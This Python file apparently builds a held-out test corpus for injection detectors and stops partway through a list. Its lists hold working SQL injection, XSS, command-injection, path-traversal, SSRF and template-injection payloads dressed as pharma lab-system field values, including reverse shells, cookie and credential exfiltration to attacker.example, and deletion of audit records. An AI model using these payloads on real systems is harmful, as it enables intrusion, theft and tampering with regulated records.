"""Attack held-out corpus "pharma" (ids ha42-NNNNN).

Attacks hidden in the notations of an ELN / LIMS / clinical-trial / GMP QMS:
sample and lot ids, SMILES and CAS fields, plate wells, SOP references,
instrument file paths, SDS/structure-image URLs, CoA and label templates,
notification e-mail fields, audit-log text, LDAP logins and XML imports.
Class = "<context>-<technique>[+<encoding>]"; "plain-" = no domain wrapping.

Every literal was written by hand for this corpus from an understanding of
how each technique works; templates only recombine small hand-written pools.
Attacker infrastructure: attacker.example, *.attacker.example,
203.0.113.0/24, 198.51.100.0/24. Secrets are placeholders.
"""
import json
import random
from pathlib import Path

SEED = 4202
PREFIX = "ha42"

# (class, value) per category ------------------------------------------------
SQLI = [
    ("sample_id-tautology", "S-2024-00412' OR '1'='1"),
    ("sample_id-union", "S-2024-00412' UNION SELECT username, password_hash, NULL FROM lims_users--"),
    ("lot_no-union", "23B-0417' UNION ALL SELECT NULL, table_name, NULL, NULL FROM information_schema.tables-- -"),
    ("cas-error-mssql", "50-78-2' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("plate_id-time-mssql", "PL-00412'; WAITFOR DELAY '0:0:7'--"),
    ("deviation_id-time-mysql", "DEV-2024-0193' AND (SELECT 1 FROM (SELECT SLEEP(6))q)-- -"),
    ("assay_filter-error-mysql", "IC50' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"),
    ("smiles-time-postgres", "CC(=O)O' || (SELECT pg_sleep(5)) || '"),
    ("compound_pk-numeric-tautology", "9921 OR 1=1"),
    ("sort_column-orderby-blind", "assay_date, (CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN 1 ELSE 1/0 END)"),
    ("lot_no-stacked-update", "LOT-77'; UPDATE batch_release SET status='RELEASED', qp_signed=1 WHERE lot_no='LOT-77';--"),
    ("deviation_id-stacked-delete", "DEV-2024-0211'; DELETE FROM audit_trail WHERE record_id LIKE 'DEV-2024-0211%';--"),
    ("sample_id-error-oracle", "S-0412' AND 1=(SELECT UTL_INADDR.get_host_name((SELECT user FROM dual)) FROM dual)--"),
    ("compound_search-union-sqlite", "aspirin' UNION SELECT sql, name, 3 FROM sqlite_master--"),
    ("sample_id-boolean-blind", "S-0412' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)>'m'--"),
    ("lot_no-boolean-oracle", "23B-0417' AND ASCII(SUBSTR((SELECT banner FROM v$version WHERE ROWNUM=1),1,1))=79--"),
    ("json_lot-tautology", '{"lot":"23B-0417\' OR 1=1#","site":"DE01"}'),
    ("search-comment-space", "ibuprofen'/**/UNION/**/SELECT/**/login,pwd,3/**/FROM/**/lims_users--"),
    ("search-case-mixing", "paracetamol' uNiOn sElEcT null,concat(login,0x3a,pwd),null fRoM lims_users-- -"),
    ("sample_id-tautology+urlenc", "S-0412%27%20OR%20%271%27%3D%271"),
    ("search-like-breakout", "acetyl%' AND 1=1 AND '%'='"),
    ("assay_field-tautology", "IC50' OR 'x'='x"),
    ("well_id-time-mysql", "A1) OR SLEEP(5)#"),
    ("protocol_id-paren-tautology", "ABC-123-301') OR ('a'='a"),
    ("eln_comment-insert-subselect", "Great yield', (SELECT password FROM users WHERE role='admin' LIMIT 1))-- "),
    ("batch_note-stacked-copy-program", "ok'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/p.sh | sh';--"),
    ("instrument_id-stacked-xp_cmdshell", "HPLC-07'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.5';--"),
    ("lot_no-union-outfile", "23B' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2,3 INTO OUTFILE '/var/www/html/coa.php'-- -"),
    ("sample_id-union-load_file", "S-0412' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("cas-heavy-query-postgres", "64-17-5' AND 1=(SELECT COUNT(*) FROM generate_series(1,60000000))--"),
    ("lot_no-time-oracle", "23B-0417' AND 1=dbms_pipe.receive_message('x',8)--"),
    ("compound_name-union-hex", "caffeine' UNION SELECT 0x61646d696e, pwd, 3 FROM lims_users-- -"),
    ("login-comment-truncation", "qa_admin'--"),
    ("login-tautology-limit", "' OR 1=1 LIMIT 1-- -"),
    ("sort-having-error", "' HAVING 1=1--"),
    ("lot_search-groupby-error", "23B' GROUP BY batch_id HAVING 1=1--"),
    ("analyst-char-concat", "' OR analyst=CHAR(106,100,111,101)--"),
    ("plate_id-stacked-conditional-time", "412;SELECT CASE WHEN (SELECT current_user)='postgres' THEN pg_sleep(4) ELSE pg_sleep(0) END--"),
    ("sample_id-heavy-sqlite", "S-0412' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(400000000/2))))--"),
    ("deviation_id-error-updatexml", "DEV-24-0301' AND updatexml(1,concat(0x3a,(SELECT user())),1)-- -"),
    ("smiles-error-divzero", "C1CCCCC1' || (SELECT CASE WHEN (SELECT count(*) FROM pg_user)>0 THEN 1/0 ELSE 1 END) || '"),
    ("lot_no-stacked-shutdown", "23B-0417'; SHUTDOWN WITH NOWAIT;--"),
    ("search-tautology+plus-space", "aspirin'+OR+1=1--+"),
    ("sample_id-tautology+double-urlenc", "S-0412%2527%2520OR%25201%253D1--%2520"),
    ("json_search-tautology+unicode-escape", '{"q":"metformin\\u0027 OR \\u00271\\u0027=\\u00271"}'),
    ("batch_note-dollar-quote-read", "x'; SELECT $$a$$||pg_read_file('/etc/passwd');--"),
    ("compound_id-union-numeric", "-1 UNION SELECT 1,@@version,user(),4-- -"),
    ("cas-or-subquery-exists", "50-78-2' OR EXISTS(SELECT 1 FROM lims_users WHERE login='qa_admin' AND pwd LIKE 'a%')--"),
    ("lot_no-oob-dns-mssql", "23B'; DECLARE @h varchar(99)=(SELECT TOP 1 pwd FROM lims_users); EXEC('master..xp_dirtree \"\\\\'+@h+'.x.attacker.example\\s\"');--"),
    ("lot_no-oob-oracle-http", "23B' AND 1=UTL_HTTP.request('http://attacker.example/'||(SELECT user FROM dual)) --"),
    ("sample_id-oob-load_file-unc", "S-0412' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pwd FROM lims_users LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("well_range-between-tautology", "A1' OR well BETWEEN 'A1' AND 'P24' OR '1'='1"),
    ("in_list-breakout", "'23B-0417') OR 1=1 OR lot_no IN ('x"),
    ("limit-union-mysql", "10 UNION SELECT login,pwd FROM lims_users"),
    ("sample_id-mysql-comment-version", "S-0412' /*!50000UNION*/ /*!50000SELECT*/ login,pwd,3 FROM lims_users-- -"),
    ("protocol_id-stacked-insert-user", "ABC-123-301'; INSERT INTO lims_users(login,pwd,role) VALUES('temp_qa','x','ADMIN');--"),
    ("search-newline-comment", "insulin'\n-- forged filter\nOR 1=1\n--"),
    ("sop_ref-boolean-length", "SOP-QA-014' AND LENGTH((SELECT pwd FROM lims_users WHERE login='qa_admin'))>12 AND 'a'='a"),
    ("date_filter-time-sleep", "2024-05-03' AND SLEEP(5) AND '1'='1"),
    ("plain-union", "' UNION SELECT NULL, NULL, NULL--"),
    ("plain-tautology", "' or 1=1 --"),
    ("plain-time-postgres", "'; SELECT pg_sleep(10)--"),
    ("plain-error-mysql", "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -"),
    ("plain-stacked-drop", "1; DROP TABLE samples--"),
    ("json_where-mssql-time+tab", "S-0412'\tAND\t1=1;\tWAITFOR\tDELAY\t'0:0:9'--"),
    ("sample_id-tautology+html-entities", "S-0412&#39; OR &#39;1&#39;=&#39;1"),
    ("search-union+fullwidth-nfkc", "aspirin＇ ＵＮＩＯＮ ＳＥＬＥＣＴ login, pwd, NULL ＦＲＯＭ lims_users-- -"),
    ("plain-sleep-mysql", "' AND SLEEP(5)#"),
]

XSS = [
    ("compound_name-img-onerror", "Compound 7a <img src=x onerror=fetch('//attacker.example/c?'+document.cookie)>"),
    ("eln_note-script-cookie", "Reaction worked fine.<script>new Image().src='https://attacker.example/k?c='+encodeURIComponent(document.cookie)</script>"),
    ("smiles-svg-onload", "CC(=O)O<svg onload=alert(document.domain)>"),
    ("lot_no-attr-breakout-script", "23B-0417\"><script src=https://cdn.attacker.example/x.js></script>"),
    ("sop_title-attr-single-quote", "SOP-QA-014' onmouseover='alert(document.cookie)' x='"),
    ("reference_url-javascript-uri", "javascript:fetch('https://attacker.example/s',{method:'POST',body:localStorage.getItem('token')})"),
    ("deviation_text-iframe-srcdoc", "Door alarm late <iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("ae_narrative-details-ontoggle", "Grade 2 nausea <details open ontoggle=alert(1)><summary>more</summary></details>"),
    ("assay_comment-a-href-js", "<a href=\"javascript:alert(document.cookie)\">see raw data</a>"),
    ("textarea_field-closing-tag", "</textarea><script>alert('ELN')</script>"),
    ("page_title-title-breakout", "PL-00412</title><svg/onload=alert(1)>"),
    ("js_string-quote-breakout", "';alert(String.fromCharCode(88,83,83))//"),
    ("js_string-script-close", "CPD-009921</script><script>alert(document.domain)</script>"),
    ("js_template-literal", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("batch_note-input-autofocus", "<input autofocus onfocus=alert(document.cookie)>"),
    ("attachment_name-video-source", "<video><source onerror=\"alert(1)\"></video>.mp4"),
    ("sds_link-object-data", "<object data=\"javascript:alert(document.domain)\"></object>"),
    ("eln_note-embed-data-uri", "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">"),
    ("review_comment-form-phish", "Session expired, please re-sign:<form action=https://attacker.example/sign method=post><input name=user><input name=password type=password><button>e-Sign</button></form>"),
    ("eln_note-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/lims-login\">"),
    ("eln_note-base-hijack", "<base href=\"https://attacker.example/\">"),
    ("eln_note-style-import", "<style>@import url(//attacker.example/x.css);</style>"),
    ("compound_name-img-onerror+html-entities", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("reference_url-javascript+entity-tab", "<a href=\"jav&#x09;ascript:alert(document.domain)\">CoA</a>"),
    ("search-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("json_field-script+unicode-escape", "{\"title\":\"\\u003cimg src=x onerror=alert(1)\\u003e\"}"),
    ("structure_image-svg-script", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\"><script>alert(document.domain)</script><circle r=\"4\"/></svg>"),
    ("plate_label-marquee-onstart", "<marquee onstart=alert(1)>A1-H12</marquee>"),
    ("eln_note-script+case-mixing", "<ScRiPt>alert(document.cookie)</sCrIpT>"),
    ("ae_narrative-img-atob", "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>"),
    ("eln_note-angular-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("sample_desc-custom-tag-onclick", "<x-well onclick=alert(1)>click to open plate</x-well>"),
    ("smiles-svg-animate-onbegin", "C1=CC=CC=C1<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("eln_note-dynamic-import", "<img src=1 onerror=import('//attacker.example/m.js')>"),
    ("filter_dropdown-select-onfocus", "<select autofocus onfocus=alert(1)><option>Lot</option></select>"),
    ("ae_narrative-textarea-onfocus", "<textarea autofocus onfocus=alert(document.domain)>"),
    ("sanitizer-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("csv_preview-body-onload", "<body onload=alert(document.cookie)>"),
    ("svg_upload-use-href", "<svg><use href=\"data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0ieCIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x\"/></svg>"),
    ("lot_no-attr-event-no-quotes", "23B-0417 autofocus onfocus=alert(document.cookie)"),
    ("eln_note-img-srcset", "<img srcset=\"x 1x\" onerror=\"alert(1)\">"),
    ("markdown_note-link-js", "[Open SDS](javascript:alert(document.cookie))"),
    ("markdown_note-img-onerror", "![plate](x\" onerror=\"alert(1))"),
    ("eln_note-math-href", "<math><mi xlink:href=\"javascript:alert(1)\">click</mi></math>"),
    ("ae_narrative-keylogger", "<script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>"),
    ("eln_note-iframe-js-src", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("sample_desc-onpointer", "<div onpointerover=\"alert(1)\" style=\"position:fixed;inset:0\">S-2024-00412</div>"),
    ("filename-img-onerror", "run42\"><img src=x onerror=alert(1)>.D"),
    ("eln_note-template-frag", "<template><img src=x onerror=alert(1)></template><div id=t></div><script>t.append(document.querySelector('template').content)</script>"),
    ("eln_note-svg-a-href", "<svg><a href=\"javascript:alert(1)\"><text y=\"20\">Open CoA</text></a></svg>"),
    ("json_callback-jsonp", "alert(document.cookie)//"),
    ("href_attr-data-uri", "data:text/html,<script>alert(document.domain)</script>"),
    ("css_value-expression", "red;background:url(javascript:alert(1))"),
    ("plain-script", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg", "<svg/onload=alert(1)>"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-attr-breakout", "\" onfocus=\"alert(1)\" autofocus=\""),
    ("eln_note-img-onerror+double-urlenc", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("eln_note-script+hex-entities", "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;"),
    ("eln_note-svg+js-unicode-escape", "<svg onload=\\u0061lert(document.domain)>"),
    ("plain-a-javascript", "<a href=javascript:alert(1)>x</a>"),
]

CMDI = [
    ("raw_filename-semicolon-curl", "run_0412.raw; curl -s http://attacker.example/i.sh | sh"),
    ("plate_id-and-cat", "PL-00412 && cat /etc/passwd"),
    ("sample_id-subshell", "S-2024-$(id)"),
    ("sample_id-backtick", "S-2024-`whoami`"),
    ("smiles_obabel-quote-breakout", "CC(=O)O\" ; nc 203.0.113.9 4444 -e /bin/sh ; \""),
    ("export_name-pipe-wget", "PL-00412_raw.csv | wget -qO- http://198.51.100.7/p | bash"),
    ("instrument_host-ifs", "hplc07;${IFS}cat${IFS}/etc/shadow"),
    ("lot_no-time-sleep-ifs", "23B-0417$(sleep${IFS}8)"),
    ("instrument_host-newline+urlenc", "hplc07.lab.local%0aid"),
    ("instrument_host-newline", "hplc07.lab.local\nid"),
    ("instrument_host-or-ping", "hplc07 || ping -c 10 127.0.0.1"),
    ("win_export-ampersand-type", "SEQ_0412.D & type C:\\Windows\\win.ini"),
    ("win_export-powershell-iex", "run42.D | powershell -nop -w hidden -c \"iwr http://attacker.example/a.ps1 -UseBasicParsing | iex\""),
    ("win_export-certutil", "ASSAY.D & certutil -urlcache -split -f http://attacker.example/b.exe %TEMP%\\b.exe & %TEMP%\\b.exe"),
    ("method_name-reverse-shell", "ASSAY_v4;bash -i >& /dev/tcp/203.0.113.4/443 0>&1"),
    ("sample_id-dns-exfil", "S-0412$(nslookup $(whoami).attacker.example)"),
    ("plate_id-base64-pipe", "PL-00412;echo Y3VybCAtcyBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS9zfHNo|base64 -d|sh"),
    ("smiles_rdkit-single-quote", "c1ccccc1'; nslookup `hostname`.x.attacker.example; '"),
    ("archive_name-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/run42.sh"),
    ("sync_target-rsync-e", "-e sh /tmp/upload/x.sh backup01:/vol/"),
    ("curl_arg-option-injection", "-o /var/www/html/lims/shell.php http://attacker.example/s.txt"),
    ("export_name-brace-expansion", "run42;{cat,/etc/passwd}"),
    ("export_name-quote-splitting", "run42;c'a't /e\"t\"c/pa's's\"w\"d"),
    ("export_name-glob", "run42;/???/??t /???/p??s??"),
    ("export_name-empty-var", "run42;w$@h$()o$*am$@i"),
    ("method_name-perl", "ASSAY_v4;perl -e 'system(\"id\")'"),
    ("method_name-python", "ASSAY_v4; python3 -c 'import os;os.system(\"id\")'"),
    ("export_name-tab-separator", "run42;cat\t/etc/passwd"),
    ("crontab_view", "PL-00412 > /dev/null; crontab -l"),
    ("sample_id-printf-hex", "S-0412;$(printf '\\x69\\x64')"),
    ("method_name-awk-system", "ASSAY_v4;awk 'BEGIN{system(\"id\")}'"),
    ("export_name-env-slash", "run42;cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd"),
    ("lot_no-sleep-comment", "23B-0417;sleep 9 #"),
    ("lot_no-backtick-sleep", "23B-0417`sleep 9`"),
    ("win_host-ping-time", "HPLC-07 & ping -n 12 127.0.0.1 &"),
    ("export_name-destructive", "run42.csv; rm -rf /data/lims/audit/"),
    ("smiles_convert-mkfifo", "CCO;rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.20 9001 >/tmp/f"),
    ("plate_id-and+urlenc", "PL-00412%26%26id"),
    ("plate_id-semicolon+double-urlenc", "PL-00412%253Bid"),
    ("sample_id-semicolon+urlenc", "S-0412%3Bcat%20%2Fetc%2Fpasswd"),
    ("pdf_title-ghostscript-ps", "CoA 23B-0417) (%pipe%curl http://attacker.example/g|sh) (w) file"),
    ("label_printer-lpr", "ZT410; cat /opt/lims/.env | nc 203.0.113.12 9100"),
    ("ssh_target-proxycommand", "-oProxyCommand=sh -c 'id>/tmp/p' instrument01"),
    ("git_url-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("find_arg-exec", "-name '*.raw' -exec curl -F f=@{} http://attacker.example/u \\;"),
    ("zip_name-command-sub", "plates_$(curl attacker.example/z|sh).zip"),
    ("eln_note-heredoc", "run42\ncat <<EOF > /var/www/html/x.php\n<?php passthru($_GET['c']); ?>\nEOF"),
    ("instrument_host-ipv4-and", "10.20.4.17 && wget http://198.51.100.8/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
    ("win_export-cmd-set", "run42.D & set > \\\\203.0.113.10\\drop\\env.txt"),
    ("win_export-caret-obfuscation", "run42.D & w^h^o^a^m^i"),
    ("win_export-pipe-findstr", "run42.D | findstr /s /i password C:\\LIMS\\*.config"),
    ("lot_no-process-sub", "23B-0417;bash <(curl -s http://attacker.example/q)"),
    ("sample_id-tee-webshell", "S-0412;echo '<?php system($_GET[1]);?>'|tee /var/www/html/s.php"),
    ("export_name-xargs", "run42;ls /home | xargs -I{} cat /home/{}/.ssh/id_rsa"),
    ("method_name-ruby", "ASSAY_v4;ruby -e '`id`'"),
    ("method_name-node", "ASSAY_v4;node -e \"require('child_process').exec('id')\""),
    ("plain-semicolon-id", ";id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell-uname", "$(uname -a)"),
    ("plain-and-whoami", "&& whoami"),
    ("plain-backtick-sleep", "`sleep 10`"),
    ("plain-win-ampersand", "& dir C:\\"),
    ("export_name-newline+double-urlenc", "run42%250aid"),
    ("win_export-ampersand+urlenc", "run42.D%20%26%20whoami"),
    ("plain-pipe-nc", "| nc 203.0.113.9 4444 -e /bin/sh"),
]

TRAVERSAL = [
    ("export_path-dotdot-passwd", "../../../../etc/passwd"),
    ("attachment-backslash-winini", "..\\..\\..\\..\\Windows\\win.ini"),
    ("export_path-strip-bypass", "....//....//....//....//etc/passwd"),
    ("export_path-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("export_path-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("export_path-dotdot+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("export_path-absolute", "/etc/shadow"),
    ("method_file-absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("coa_download-null-byte", "../../../etc/passwd%00.pdf"),
    ("raw_file-proc-environ", "../../../../proc/self/environ"),
    ("template-app-config", "../../app/config/settings.py"),
    ("tomcat_path-semicolon", "/lims/..;/..;/manager/html"),
    ("zip_entry-zip-slip", "../../../../var/www/html/plates/s.jsp"),
    ("export_path-prefix-then-dotdot", "/var/lib/lims/exports/../../../../root/.ssh/id_rsa"),
    ("export_path-double-slash", "..//..//..//..//etc//shadow"),
    ("attachment-backslash+urlenc", "..%5c..%5c..%5c..%5cboot.ini"),
    ("raw_file-proc-cwd", "/proc/self/cwd/config/lims.yaml"),
    ("include-php-filter", "php://filter/convert.base64-encode/resource=../config/db.php"),
    ("export_path-leading-slash-dotdot", "/../../../../../../etc/hosts"),
    ("export_path-partial+urlenc", "..%2f..%2f..%2f..%2fopt%2flims%2f.env"),
    ("export_path-dots+urlenc", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/group"),
    ("attachment-mixed-slashes", "..\\/..\\/..\\/..\\/etc/passwd"),
    ("attachment-iis-webconfig", "\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("export_path-dotenv", "../../../../../opt/lims/.env"),
    ("raw_file-aws-credentials", "../../../../home/lims/.aws/credentials"),
    ("plate_csv-dotdot-in-name", "PL-00412/../../../../etc/passwd"),
    ("sequence_folder-win-dotdot", "SEQ_0412\\..\\..\\..\\..\\Users\\Administrator\\NTUSER.DAT"),
    ("nmr_path-dotdot", "/opt/topspin/data/jdoe/nmr/../../../../../../etc/passwd"),
    ("method_file-unc-admin-share", "\\\\127.0.0.1\\c$\\Windows\\win.ini"),
    ("export_path-unicode-slash", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("export_path-overlong-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("log_view-dotdot-ssh", "../../../../../home/jdoe/.ssh/authorized_keys"),
    ("report_template-web-inf", "../../WEB-INF/web.xml"),
    ("include-file-scheme-dotdot", "file:///opt/lims/conf/../../../etc/shadow"),
    ("export_path-tomcat-users", "../../../../usr/local/tomcat/conf/tomcat-users.xml"),
    ("export_path-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("image_path-dotdot-shadow-json", "{\"structure_png\":\"../../../../etc/shadow\"}"),
    ("download-query-dotdot", "file=../../../../etc/passwd&type=coa"),
    ("eln_attachment-zip-slip-windows", "..\\..\\..\\..\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\run.bat"),
    ("export_path-git-config", "../../../../srv/lims/.git/config"),
    ("raw_file-history", "../../../../root/.bash_history"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-dotdot-winini", "..\\..\\..\\windows\\win.ini"),
    ("plain-urlenc-passwd", "..%2F..%2F..%2Fetc%2Fpasswd"),
    ("plain-absolute", "/etc/passwd"),
    ("export_path-dotdot+iis-u-encoding", "..%u002f..%u002f..%u002fetc%u002fpasswd"),
    ("attachment-backslash+double-urlenc", "..%255c..%255c..%255cwindows%255cwin.ini"),
    ("plain-deep-shadow", "../../../../../../etc/shadow"),
]

SSRF = [
    ("sds_url-aws-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("structure_image_url-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("sds_url-localhost-admin", "http://127.0.0.1:8080/admin/users"),
    ("webhook-redis-gopher", "gopher://127.0.0.1:6379/_SET%20x%20%22pwned%22%0D%0ASAVE%0D%0A"),
    ("sds_url-decimal-ip", "http://2130706433/lims/admin"),
    ("sds_url-hex-ip", "http://0x7f000001:8080/"),
    ("sds_url-octal-ip", "http://017700000001/"),
    ("sds_url-short-ip", "http://127.1:5000/internal/api/users?role=admin"),
    ("sds_url-ipv6-loopback", "http://[::1]:8080/actuator/env"),
    ("sds_url-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/server-status"),
    ("sds_url-zero-ip", "http://0:9200/_cat/indices"),
    ("sds_url-dns-rebind-name", "http://169.254.169.254.attacker.example/latest/meta-data/"),
    ("sds_url-userinfo-confusion", "http://lims.pharma.example@127.0.0.1:8080/admin"),
    ("sds_url-fragment-confusion", "http://127.0.0.1:8080#@lims.pharma.example/"),
    ("import_url-file-scheme", "file:///etc/passwd"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("coa_url-internal-range", "http://10.0.12.5:8000/api/v1/batches?status=all"),
    ("coa_url-router", "http://192.168.1.1/cgi-bin/config.exp"),
    ("sds_url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("sds_url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("sds_url-azure-imds", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("sds_url-open-redirect-chain", "https://attacker.example/r?to=http%3A%2F%2F169.254.169.254%2Flatest%2Fuser-data"),
    ("webhook-docker-api", "http://localhost:2375/containers/json?all=1"),
    ("webhook-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("webhook-consul", "http://localhost:8500/v1/kv/?recurse"),
    ("structure_import-jar-scheme", "jar:http://attacker.example/mol.zip!/structure.mol"),
    ("structure_import-netdoc", "netdoc:///etc/passwd"),
    ("sds_url-octal-imds", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("sds_url-hex-imds", "http://0xa9fea9fe/latest/meta-data/"),
    ("sds_url-decimal-imds", "http://2852039166/latest/meta-data/iam/"),
    ("json_import-imds", "{\"sds_url\":\"http://169.254.169.254/latest/user-data\",\"cas\":\"50-78-2\"}"),
    ("webhook-ecs-credentials", "http://169.254.170.2/v2/credentials/"),
    ("webhook-rabbitmq", "http://guest:guest@localhost:15672/api/users"),
    ("webhook-spring-actuator", "http://127.0.0.1:8080/actuator/heapdump"),
    ("webhook-port-scan-ssh", "http://127.0.0.1:22/"),
    ("instrument_feed-tftp", "tftp://198.51.100.3/lims.cfg"),
    ("method_file-unc-ntlm-leak", "\\\\203.0.113.8\\share\\ASSAY_v4.M"),
    ("sds_url-ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:7f00:1]:8000/"),
    ("sds_url-enclosed-alnum", "http://①②⑦.⓪.⓪.①:8080/"),
    ("sds_url-imds+urlenc", "http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("pdf_render-iframe-imds", "<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=800 height=600></iframe>"),
    ("xml_import-xinclude-ssrf", "<lims xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"http://127.0.0.1:8500/v1/agent/self\"/></lims>"),
    ("webhook-gcp-metadata-alt", "http://169.254.169.254/computeMetadata/v1/project/attributes/ssh-keys?alt=text"),
    ("sds_url-uppercase-localhost", "http://LOCALHOST:9000/minio/admin/v3/info"),
    ("sds_url-trailing-dot", "http://localhost.:8080/admin"),
    ("webhook-ldap-scheme", "ldap://127.0.0.1:389/dc=pharma,dc=example??sub?(objectClass=*)"),
    ("plain-imds", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file", "file:///c:/windows/win.ini"),
    ("sds_url-localhost+double-urlenc", "http%253A%252F%252F127.0.0.1%253A8080%252Fadmin"),
    ("sds_url-mixed-radix+alt-ip", "http://0x7f.0.0.01:8080/admin"),
    ("plain-loopback-port", "http://127.0.0.1:8080/"),
]

CODE = [
    ("label_template-jinja2-cycler", "Lot {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("coa_template-jinja2-config", "Batch {{ config.items() }}"),
    ("coa_template-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("label_template-jinja2-for-loop", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("coa_template-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("label_template-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("label_template-jinja2-attr+hex-escape", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("label_template-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("label_template-twig-map-exec", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("coa_template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("report_template-velocity-runtime", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())#set($p=$rt.exec(\"id\"))$p.waitFor()"),
    ("label_template-erb-backtick", "<%= `id` %>"),
    ("label_template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("label_template-smarty-system", "{system('id')}"),
    ("label_template-mako-import", "<% import os %>${os.popen('id').read()}"),
    ("coa_template-spring-el", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("view_name-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}__::.x"),
    ("search-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("label_template-pebble", "{% set c = 'id' %}{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(c) }}"),
